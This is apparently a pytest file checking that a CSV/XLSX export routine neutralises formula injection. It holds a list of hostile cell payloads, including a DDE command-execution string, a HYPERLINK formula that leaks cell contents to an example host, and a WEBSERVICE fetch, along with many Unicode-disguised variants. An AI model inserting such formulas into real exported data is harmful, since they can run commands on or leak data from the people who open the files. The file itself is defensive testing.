"""What is written holds no formula, in either format, however a formula is hidden."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from umid.foundation.files.tables.harmless import harmless
from umid.foundation.files.tables.workbook_writer import LONGEST, CellTooLong
from umid.foundation.files.tables.writing import Sheet, Value, as_csv, as_xlsx

PAYLOADS = {
    "a formula": "=1+1",
    "a sum": "+1+1",
    "a difference": "-1+1",
    "a function of Lotus": "@SUM(A1)",
    "a call of a program": "=cmd|' /C calc'!A0",
    "a call behind a sign": "+cmd|' /C calc'!A0",
    "a link that leaks": '=HYPERLINK("https://example.org/?"&A1,"Open")',
    "a fetched address": '=WEBSERVICE("https://example.org/")',
    "behind a space": " =1+1",
    "behind a tab": "\t=1+1",
    "behind a line feed": "\n=1+1",
    "behind a carriage return": "\r=1+1",
    "behind a zero character": "\x00=1+1",
    "behind a control character": "\x01\x1f=1+1",
    "behind a space that does not break": "\u00a0=1+1",
    "behind an ideographic space": "\u3000=1+1",
    "behind a line separator": "\u2028=1+1",
    "behind a byte order mark": "\ufeff=1+1",
    "behind a space of no width": "\u200b=1+1",
    "behind a mark of direction": "\u202e=1+1",
    "a full-width equals sign": "＝1+1",
    "a full-width plus": "＋1+1",
    "a full-width minus": "－1+1",
    "a full-width at": "＠SUM(A1)",
    "a small equals sign": "﹦1+1",
    "a full-width sign behind a space": " ＝1+1",
    "behind a semicolon": "a;=1+1",
    "behind a line break inside": "a\r\n=1+1",
    "behind a tab inside": "a\t =1+1",
}
payloads = pytest.mark.parametrize("payload", PAYLOADS.values(), ids=list(PAYLOADS))


def _one_cell(value: Value) -> Sheet:
    return Sheet("Test", ["Heading"], [[value]])


@payloads
def test_no_payload_stays_a_formula_in_csv(payload: str) -> None:
    text = as_csv(_one_cell(payload)).decode("utf-8-sig")
    for separator in ",;\t":
        for record in csv.reader(io.StringIO(text), delimiter=separator):
            for cell in record:
                assert cell.strip("\x00\x01\x1f \t\r\n\u00a0\u3000\u2028\ufeff\u200b\u202e")[
                    :1
                ] not in set("=+-@＝＋－＠﹦")


@payloads
def test_no_payload_is_a_formula_in_xlsx(payload: str) -> None:
    book = load_workbook(io.BytesIO(as_xlsx(_one_cell(payload))))
    cell = book.worksheets[0]["A2"]
    assert cell.data_type == "s"
    assert str(cell.value).startswith("'") or ";'" in str(cell.value) or "'" in str(cell.value)


@pytest.mark.parametrize(
    "words", ["Tashkent", "a - b", "1=1", "e@example.org", "«=»", "−5", "", "'=1"]
)
def test_words_that_begin_no_formula_stay_as_they_are(words: str) -> None:
    assert harmless(words) == words


def test_a_heading_is_made_harmless_too() -> None:
    sheet = Sheet("Test", ["=1+1"], [])
    assert b'"\'=1+1"' in as_csv(sheet)
    assert load_workbook(io.BytesIO(as_xlsx(sheet))).worksheets[0]["A1"].value == "'=1+1"


def test_numbers_stay_numbers_and_moments_are_iso() -> None:
    at = datetime(2026, 11, 24, 9, 30, tzinfo=UTC)
    values: list[Value] = [-5, 2.5, True, None, date(2026, 11, 24), at, Decimal("0.10"), 10**20]
    sheet = Sheet("Test", list("abcdefgh"), [values])
    row = next(load_workbook(io.BytesIO(as_xlsx(sheet))).worksheets[0].iter_rows(min_row=2))
    assert [cell.value for cell in row] == [
        -5,
        2.5,
        True,
        None,
        "2026-11-24",
        "2026-11-24T09:30:00+00:00",
        "0.10",
        str(10**20),
    ]
    assert b'"-5","2.5","True","","2026-11-24"' in as_csv(sheet)


def test_a_text_that_no_cell_holds_is_an_error_and_not_dropped() -> None:
    with pytest.raises(CellTooLong):
        as_xlsx(_one_cell("x" * (LONGEST + 1)))
